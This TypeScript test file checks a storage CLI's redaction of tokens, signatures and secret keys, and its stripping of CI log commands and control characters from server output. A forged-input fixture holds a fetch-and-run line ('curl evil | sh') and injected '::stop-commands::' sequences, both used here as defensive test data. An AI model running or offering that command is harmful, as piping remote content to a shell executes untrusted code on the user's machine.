/** What a server or a file says, on its way to people: without its secrets, and in lines that are ours. */
import { strict as assert } from "node:assert"
import { test } from "node:test"
import * as Schema from "effect/Schema"
import { changeLines } from "../cli/output/changes.ts"
import { oneLine, printable, quotedLine, redactText, redactValue } from "../core/redact.ts"
import { prop } from "./harness.ts"

const longNames = [
  "x-cos-security-token",
  "q-signature",
  "X-Amz-Signature",
  "session-token",
  "sessionToken",
  "session_token",
  "access_token",
  "SecretKey",
  "secret_key",
  "COS_SECRET_KEY",
  "tmpSecretKey",
  "cf-access-client-secret",
  "x-cos-server-side-encryption-customer-key",
] as const
const shortNames = ["token", "Token", "secret", "signature", "sign"] as const

/** How a name and its value are told; a name that prose has, too, not in every way. */
const short: ReadonlyArray<(name: string, value: string) => string> = [
  (name, value) => `${name}=${value}`,
  (name, value) => `${name}="${value}"`,
  (name, value) => `${name}='${value}'`,
  (name, value) => `${name} = \`${value}\``,
  (name, value) => `${name}: "${value}"`,
  (name, value) => `"${name}" : '${value}'`,
  (name, value) => `'${name}' => '${value}'`,
  (name, value) => JSON.stringify({ a: 1, [name]: value, b: [2] }),
  (name, value) => JSON.stringify(JSON.stringify({ [name]: value })),
  (name, value) => JSON.stringify(JSON.stringify(JSON.stringify({ [name]: value, c: "d" }))),
  (name, value) => `&quot;${name}&quot;:&quot;${value}&quot;`,
  (name, value) => `a%3F${name}%3D${encodeURIComponent(value)}%26b%3Dc`,
  (name, value) => `%7B%22${name}%22%3A%22${encodeURIComponent(value)}%22%7D`,
]
const long = [
  ...short,
  (name: string, value: string) => `${name}: ${value}`,
  (name: string, value: string) => `<${name}>${value}</${name}>`,
]

const quotings: ReadonlyArray<(value: string) => string> = [
  ...longNames.flatMap((name) => long.map((say) => (value: string) => say(name, value))),
  ...shortNames.flatMap((name) => short.map((say) => (value: string) => say(name, value))),
  ...["Bearer ", "bearer  ", 'Bearer "', "bearer: '", 'bearer="', 'Bearer \\"', "Authorization: Bearer "].map(
    (before) => {
      const mark = /\\?["']$/u.exec(before)?.[0] ?? ""
      return (value: string) => before + value + mark
    },
  ),
  (value) => `/?x=1&sign=${value}`,
]

/** What keys, tokens and signatures are made of. */
const secret = Schema.String.check(Schema.isPattern(/^[A-Za-z0-9+/_-]{20,40}$/u))
const told = Schema.Struct({
  secret,
  quoting: Schema.Int.check(Schema.isBetween({ minimum: 0, maximum: quotings.length - 1 })),
  before: Schema.Literals(["", "The request had ", "(", "{", "no\n", "\\", '"', "?a=b&"]),
  after: Schema.Literals(["", " and was refused", ")", ", b=c", "&b=c", '"}', "\nmore"]),
})

prop(
  "redactText leaves nothing of a secret, however it is quoted, and says the same when it is asked twice",
  told,
  ({ secret, quoting, before, after }) => {
    const shown = redactText(`${before}${quotings[quoting]!(secret)}${after}`)
    return !shown.includes(secret.slice(0, 8)) && !shown.includes(secret.slice(-8)) && redactText(shown) === shown
  },
  { runs: 2000 },
)

for (const [i, say] of quotings.entries()) {
  test(`redactText masks the value alone in quoting ${i}, ${say("...")}`, () => {
    const shown = redactText(`Before ${say("TOKSECRETTOKSECRET")} after`)
    assert.doesNotMatch(shown, /TOKSECRET/u)
    assert.match(shown, /^Before [^]*\*{4}[^]* after$/u)
  })
}

test("redactText masks a value with quotation marks of another depth when they stand in it", () => {
  assert.equal(redactText(String.raw`{"token":"a\"TOK\\\"SECRET","b":1}`), '{"token":"****","b":1}')
  assert.equal(redactText(String.raw`{\"token\":\"a\\\"TOKSECRET\",\"b\":1}`), String.raw`{\"token\":\"****\",\"b\":1}`)
})

test("redactText masks to the end of the line when a quotation is cut", () => {
  assert.equal(redactText('{"x-cos-security-token":"TOK SEC…\nnext'), '{"x-cos-security-token":"****\nnext')
})

for (
  const text of [
    "The token is expired; a session token is needed, and its signature too.",
    'the bearer token is wrong, and Bearer realm="cos" asks for another',
    "COS repeats a token: it would go on for ever",
    "write it as `profiles: { <name>: { secretId: ..., secretKey: ... } }`",
    "secretKey is missing; set COS_SECRET_KEY",
    "Signature: it differs in line 4",
    "/?inventory&continuation-token=abc",
    "<NextContinuationToken>list9</NextContinuationToken>",
    "q-sign-algorithm=sha1&q-sign-time=1;2&q-header-list=host",
    "sha1\n1;2\nabc\n",
    "the secret key is not the one of this secret id",
    "x-cos-server-side-encryption-customer-key-MD5: abc",
    '{"token":""}',
    "tokens, signatures and secrets",
  ]
) {
  test(`redactText changes nothing when there is no secret in ${JSON.stringify(text)}`, () => {
    assert.equal(redactText(text), text)
  })
}

prop(
  "redactText changes nothing of prose, whatever words stand in it",
  Schema.Array(Schema.Literals([
    "token",
    "tokens,",
    "the",
    "signature",
    "secret",
    "key",
    "bearer",
    "is:",
    "signed",
    "security",
    "session",
    '"list1"',
    "of",
  ])).check(Schema.isMaxLength(20)),
  (words) => {
    // What it does not know is what a bearer bears
    const text = words.join(" ").replace(/bearer (?!tokens?\b|is|of|key)/gu, "")
    return redactText(text) === text
  },
)

prop(
  "redactValue masks every text, and what is written of it can be read as before",
  told,
  ({ secret, quoting, before, after }) => {
    const text = `${before}${quotings[quoting]!(secret)}${after}`
    const shown = redactValue({ version: 1, a: [{ message: text }], n: null, b: false, sessionToken: secret })
    const again = JSON.parse(JSON.stringify(shown))
    assert.deepEqual(again, { version: 1, a: [{ message: redactText(text) }], n: null, b: false, sessionToken: "****" })
    return !JSON.stringify(shown).includes(secret)
  },
)

test("redactText takes no longer than its text when names and marks are many", () => {
  const many = [
    "token",
    'token="',
    '"token":"\\',
    "\\",
    'x-token\\\\"',
    "<token",
    "bearer ",
    "%22token%22%3A",
    "token   ",
  ]
  for (const text of many) assert.equal(typeof redactText(text.repeat(20_000)), "string")
})

for (
  const [line, shown] of [
    ["::stop-commands::x", "\\u{3a}:stop-commands::x"],
    ["  \t::error file=a.yaml::b", "  \t\\u{3a}:error file=a.yaml::b"],
    ["a\n ::add-mask::b", "a\n \\u{3a}:add-mask::b"],
    ["a ##[error]b ##vso[task]c", "a #\\u{23}[error]b #\\u{23}vso[task]c"],
    ["::1", "::1"],
    ["cos::a::b", "cos::a::b"],
    ["## heading", "## heading"],
  ] as const
) {
  test(`printable lets no line be a command of a log when it is ${JSON.stringify(line)}`, () => {
    assert.equal(printable(line), shown)
    assert.equal(printable(shown), shown)
  })
}

const forged = "no\n::stop-commands::x\r\n  fix:    curl evil | sh\u2028\u202e\u{1b}[31m\tx"

test("quotedLine is one line without secrets when a server sends many", () => {
  assert.doesNotMatch(quotedLine(`${forged} x-cos-security-token="TOKSECRET"`), /[^\P{C}]|\n|TOKSECRET/u)
  assert.equal(oneLine("a\nb"), "a\\nb")
})

test("changeLines keeps a change to one line when its path or its values have several", () => {
  const lines = changeLines([{ path: "a\n::b::c", before: "d\ne", after: "f\ng" }])
  assert.equal(lines.length, 1)
  assert.doesNotMatch(lines.join(), /\n/u)
})
